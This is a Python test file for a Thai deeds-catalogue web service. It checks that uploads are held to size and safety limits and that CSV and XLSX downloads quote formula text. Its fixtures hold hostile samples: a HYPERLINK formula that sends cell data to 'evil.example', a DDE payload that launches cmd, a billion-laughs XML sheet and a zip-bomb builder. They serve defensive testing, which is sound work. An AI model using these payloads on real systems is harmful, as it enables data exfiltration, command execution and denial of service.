"""Tables in and out, as a partner's system or a person meets them: uploads are held
to the limits before anything is imported (413 too large, 422 a bad file, Thai on the
page), errors are capped in answers, and no download hands a spreadsheet a formula."""

import csv
import io
import zipfile
from datetime import date, timedelta
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from dcatalog.accounts import service as accounts
from dcatalog.accounts.permissions import Role
from dcatalog.actors import SYSTEM, Actor
from dcatalog.agencies.service import get_agency
from dcatalog.benefits import awards
from dcatalog.config import Settings
from dcatalog.deeds.models import Deed
from dcatalog.demo.service import load_demo
from dcatalog.reports import service as reports
from tests.factories import make_account, make_principal, sign_in, sign_in_citizen
from tests.integration.test_awards import FIRST, awards_of, donate, national_id
from tests.integration.test_citizens import SOMSRI, record, story
from tests.integration.test_import import TODAY, nid
from tests.integration.test_import_jobs import job_id_in, recorder_client, upload
from tests.integration.test_reports import KEYER as REPORT_KEYER
from tests.integration.test_reports import (
    START,
    YEAR,
    fund,
    fund_actor,
    fund_client,
    start_on_page,
)
from tests.integration.test_reports import nid as report_nid

pytestmark = pytest.mark.demo_data  # on the demo's reference data, loaded once

__all__ = ["fund", "fund_client", "recorder_client", "story"]  # fixtures used here

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HEADING = "national_id,deed_type,quantity,occurred_on,province,evidence,external_id\n"
DAY = (TODAY - timedelta(days=3)).isoformat()


def good_row(n: int, evidence: str = "", ref: str = "") -> str:
    return f"{nid(n)},kys.volunteer_activity,1,{DAY},TH-10,{evidence},{ref or f'u-{n}'}\n"


def api_import(app: FastAPI, session: Session, content: bytes, name: str = "hours.csv"):  # type: ignore[no-untyped-def]
    university = get_agency(session, "demouniv")
    _key, plain = accounts.create_api_key(session, SYSTEM, university, "import", ["deeds:write"])
    return TestClient(app).post(
        "/api/v1/deeds/import?wait=true",
        headers={"Authorization": f"Bearer {plain}"},
        files={"file": (name, content, "application/octet-stream")},
    )


def deeds_in(session: Session) -> int:
    return session.scalar(select(func.count()).select_from(Deed)) or 0


def xlsx_bytes(rows: list[list[object]]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)  # type: ignore[union-attr]
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_sheet(content: bytes, sheet_xml: bytes) -> bytes:
    """The same XLSX with its first sheet's XML replaced."""
    source, out = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = sheet_xml if item.filename == "xl/worksheets/sheet1.xml" else source.read(item)
            target.writestr(item.filename, data)
    return out.getvalue()


# --- downloads never hand over a formula --------------------------------------------------


def test_an_external_id_excel_would_run_comes_back_quoted_in_the_error_report(
    recorder_client: TestClient,
) -> None:
    quoted = '"' + FORMULA.replace('"', '""') + '"'  # as CSV writes it
    content = (HEADING + f"{nid(1)},kys.volunteer_activity,1,yesterday,TH-10,,{quoted}\n").encode()
    job = job_id_in(upload(recorder_client, content).text)
    report = recorder_client.get(f"/staff/deeds/imports/{job}/errors.csv")
    assert report.content.startswith("\ufeff".encode())
    (row,) = list(csv.DictReader(io.StringIO(report.content.decode("utf-8-sig"))))
    assert row["เหตุที่ไม่รับ"].startswith("แถว 2: วันที่:")
    assert row["external_id"] == "'" + FORMULA  # as sent, quoted


def test_a_ceremony_name_excel_would_run_comes_back_quoted(
    client: TestClient, session: Session
) -> None:
    load_demo(session)
    donate(session, 30, 7)
    award = awards_of(session, 30)["redcross.donor_7"]
    awards.set_ceremony_name(
        session,
        make_principal(session, national_id(30), born_on=date(1990, 1, 1)),
        award.id,
        "@SUM(1+1)*cmd|' /C calc'!A0",
    )
    sign_in(client, make_account(session, Role.VERIFIER, get_agency(session, "redcross")).email)
    listing = client.get(
        "/staff/ceremonies.csv", params={"benefit": "redcross.donor_7", "from": FIRST.isoformat()}
    )
    assert listing.status_code == 200
    (row,) = list(csv.DictReader(io.StringIO(listing.text.removeprefix("\ufeff"))))
    assert row["name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_evidence_excel_would_run_comes_back_quoted_in_my_data(
    client: TestClient, session: Session, story: dict[str, Actor]
) -> None:
    (outcome,) = [record(session, story["uni"], SOMSRI, "kys.volunteer_activity", "2", "f1", 5)]
    deed = session.get(Deed, outcome["id"])
    assert deed is not None
    deed.evidence = FORMULA  # as an agency's system may send it
    session.commit()
    sign_in_citizen(client, session, SOMSRI)
    table = client.get("/me/data.csv")
    rows = list(csv.DictReader(io.StringIO(table.text.removeprefix("\ufeff"))))
    assert {r["evidence"] for r in rows} >= {"'" + FORMULA, "cert"}
    assert all(not r["evidence"].startswith("=") for r in rows)
    assert {r["quantity"] for r in rows} >= {"2.00"}  # numbers stay numbers


def test_the_eligibility_report_keeps_formula_text_as_text_in_both_files(
    fund: Session, tmp_path: Path
) -> None:
    actor = fund_actor(fund)
    spec = reports.prepare(
        fund, actor, benefit_code="kys.loan_renewal", academic_year_be=YEAR,
        today=TODAY, academic_start=START,
    )  # fmt: skip
    upload_file = tmp_path / "list.csv"
    with upload_file.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["reference", "national_id"], [FORMULA, report_nid(1)]])
    out, xlsx = io.StringIO(), tmp_path / "result.xlsx"
    sinks = [reports.CsvSink(out), reports.XlsxSink(xlsx)]
    reports.build(
        fund, actor, REPORT_KEYER, spec, upload_file, sinks, today=TODAY, academic_start=START
    )
    sinks[1].close()
    (row,) = list(csv.reader(io.StringIO(out.getvalue().removeprefix("\ufeff"))))[1:]
    assert row[1] == "'" + FORMULA
    sheet = load_workbook(xlsx).active
    assert sheet is not None
    reference, number = sheet["B2"], sheet["A2"]
    assert (reference.value, reference.data_type) == (FORMULA, "s")  # text, not a formula
    assert (number.value, number.data_type) == (2, "n")


def test_formula_text_written_to_an_xlsx_result_stays_text(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    sink = reports.XlsxSink(path)
    sink.write([FORMULA, "+1+1", -5, "-3"])
    sink.close()
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [(c.value, c.data_type) for c in sheet[1]]
    assert cells == [(FORMULA, "s"), ("+1+1", "s"), (-5, "n"), ("-3", "s")]


# --- uploads held to the limits -----------------------------------------------------------


def test_a_cell_longer_than_the_limit_is_refused_naming_its_row_and_imports_nothing(
    app: FastAPI, session: Session
) -> None:
    load_demo(session)
    content = (HEADING + good_row(1) + good_row(2, evidence="x" * 200_000)).encode()
    answer = api_import(app, session, content)
    assert answer.status_code == 422, answer.text
    assert answer.headers["content-type"].startswith("application/problem+json")
    body = answer.json()
    assert "row 3" in body["detail"]
    assert "32,767 characters" in body["detail"]
    assert body["row"] == 3
    assert "แถวที่ 3" in body["detail_th"]
    assert deeds_in(session) == 0  # not even row 2


def test_an_xlsx_declaring_entities_is_refused(app: FastAPI, session: Session) -> None:
    load_demo(session)
    plain = xlsx_bytes([["national_id"], ["1"]])
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row>'
        b"</sheetData></worksheet>"
    )
    answer = api_import(app, session, with_sheet(plain, laughs), name="hours.xlsx")
    assert answer.status_code == 422, answer.text
    assert "XML entities" in answer.json()["detail"]
    assert deeds_in(session) == 0


def zip_bomb(megabytes: int = 40) -> bytes:
    plain = xlsx_bytes([["national_id"], ["1"]])
    sheet = zipfile.ZipFile(io.BytesIO(plain)).read("xl/worksheets/sheet1.xml")
    head, _, tail = sheet.partition(b"<sheetData>")
    return with_sheet(plain, head + b" " * (megabytes * 1024 * 1024) + b"<sheetData>" + tail)


def test_a_zip_bomb_is_refused_before_it_is_opened(
    app: FastAPI, session: Session, settings: Settings
) -> None:
    load_demo(session)
    bomb = zip_bomb()
    assert len(bomb) < 200_000  # 40 MB of spaces
    answer = api_import(app, session, bomb, name="hours.xlsx")
    assert answer.status_code == 413, answer.text
    assert answer.json()["type"] == "/problems/file-too-large"
    assert "compressed more than 200 times" in answer.json()["detail"]
    # The unpacked size is bounded too, whatever the ratio.
    settings.upload_xlsx_max_unpacked_bytes = 1024 * 1024
    big = xlsx_bytes([["national_id", "evidence"], *([nid(n), f"e{n}"] for n in range(40_000))])
    answer = api_import(app, session, big, name="hours.xlsx")
    assert answer.status_code == 413, answer.text
    assert "unpacks to more than 1,048,576 bytes" in answer.json()["detail"]
    assert deeds_in(session) == 0


def test_more_rows_than_the_limit_are_refused(
    app: FastAPI, session: Session, settings: Settings
) -> None:
    load_demo(session)
    settings.upload_max_rows = 2
    answer = api_import(app, session, (HEADING + good_row(1) + good_row(2) + good_row(3)).encode())
    assert answer.status_code == 413, answer.text
    assert "more than 2 rows" in answer.json()["detail"]
    assert deeds_in(session) == 0


def test_the_upload_page_says_in_thai_why_a_file_is_refused(
    recorder_client: TestClient, session: Session
) -> None:
    long_cell = (HEADING + good_row(1) + good_row(2, evidence="x" * 200_000)).encode()
    refused = upload(recorder_client, long_cell)
    assert refused.status_code == 422
    assert "นำเข้าไฟล์นี้ไม่ได้: แถวที่ 3 มีช่องที่ยาวเกิน 32,767 ตัวอักษร" in refused.text
    bomb = upload(recorder_client, zip_bomb(), name="hours.xlsx")
    assert bomb.status_code == 413
    assert "ถูกบีบอัดเกิน 200 เท่า" in bomb.text
    assert deeds_in(session) == 0
    assert "/staff/deeds/imports/" not in refused.text + bomb.text  # no job was made


def test_a_report_upload_with_a_cell_too_long_is_refused(fund_client: TestClient) -> None:
    content = f"national_id,reference\n{report_nid(1)},{'r' * 40_000}\n".encode()
    refused = start_on_page(fund_client, content)
    assert refused.status_code == 422
    assert "แถวที่ 2 มีช่องที่ยาวเกิน 32,767 ตัวอักษร" in refused.text


def test_a_control_character_is_its_rows_error(app: FastAPI, session: Session) -> None:
    load_demo(session)
    content = (HEADING + good_row(1) + good_row(2, evidence="a\x00b") + good_row(3)).encode()
    answer = api_import(app, session, content)
    assert answer.status_code == 200, answer.text
    body = answer.json()["result"]
    assert (body["imported"], body["rejected"]) == (2, 1)
    assert body["errors"] == [
        {"row": 3, "column": "evidence", "reason": "control character", "external_id": "u-2"}
    ]


# --- errors capped -------------------------------------------------------------------------


def bad_rows(count: int) -> bytes:
    lines = [f"{nid(n)},kys.volunteer_activity,many,soon,TH-10,,b-{n}\n" for n in range(count)]
    return (HEADING + "".join(lines)).encode()


def test_an_answer_lists_the_first_errors_and_counts_them_all(
    app: FastAPI, session: Session
) -> None:
    load_demo(session)
    answer = api_import(app, session, bad_rows(12_000))  # two errors a row, over three batches
    assert answer.status_code == 200
    body = answer.json()["result"]
    assert (body["rows"], body["rejected"]) == (12_000, 12_000)
    assert len(body["errors"]) == 1000
    assert (body["errors_total"], body["errors_not_listed"]) == (24_000, 23_000)
    assert [e["row"] for e in body["errors"][:4]] == [2, 2, 3, 3]  # in row order


def test_the_error_report_download_is_capped_with_a_last_line_counting_the_rest(
    recorder_client: TestClient, settings: Settings
) -> None:
    settings.import_errors_reported = 100
    job = job_id_in(upload(recorder_client, bad_rows(6_000)).text)
    page = recorder_client.get(f"/staff/deeds/imports/{job}").text
    assert "6,000" in page  # refused rows, counted
    report = recorder_client.get(f"/staff/deeds/imports/{job}/errors.csv")
    rows = list(csv.reader(io.StringIO(report.content.decode("utf-8-sig"))))
    assert rows[0] == [*HEADING.strip().split(","), "เหตุที่ไม่รับ"]
    assert len(rows) == 1 + 100 + 1  # the first 100 refused rows, then a note
    assert rows[-1][-1].startswith("… และอีก 5,900 แถวที่ต้องแก้ไขซึ่งไม่อยู่ในไฟล์นี้")
    assert "ไฟล์ที่ดาวน์โหลดมี 100 แถวแรกจาก 6,000 แถวที่ต้องแก้ไข" in page


@pytest.mark.parametrize("cells", [["=1+1", "ok"], ["-3", "+", "@x"]])
def test_uploaded_text_is_read_as_it_is(cells: list[str], tmp_path: Path) -> None:
    """Reading never quotes (only downloads do): the import stores what was sent."""
    from dcatalog import tabular

    path = tmp_path / "t.csv"
    path.write_text(",".join(cells) + "\n", encoding="utf-8")
    (row,) = tabular.read(path, tabular.Limits())
    assert row.cells == cells


def test_a_file_is_held_to_the_same_limits_as_the_api(app: FastAPI, session: Session) -> None:
    """Found from outside: a file once recorded evidence of 20,000 characters and
    rounded 0.001 to a deed of 0.00, which `POST /api/v1/deeds` refuses. The
    service checks them now, for both."""
    load_demo(session)
    content = (
        HEADING
        + good_row(1, evidence="ก" * 2001, ref="long-evidence")
        + f"{nid(2)},kys.volunteer_activity,0.001,{DAY},TH-10,,tiny\n"
        + f"{nid(3)},kys.volunteer_activity,1.005,{DAY},TH-10,,three-places\n"
        + f"{nid(4)},kys.volunteer_activity,1.5,{DAY},TH-10,,fine\n"
    ).encode()
    answer = api_import(app, session, content)
    assert answer.status_code == 200, answer.text
    body = answer.json()["result"]
    assert (body["imported"], body["rejected"]) == (1, 3)
    refused = {(e["external_id"], e["column"]): e["reason"] for e in body["errors"]}
    assert refused == {
        ("long-evidence", "evidence"): "must have at most 2,000 characters",
        ("tiny", "quantity"): "no more than 2 decimal places",
        ("three-places", "quantity"): "no more than 2 decimal places",
    }
    assert deeds_in(session) == 1
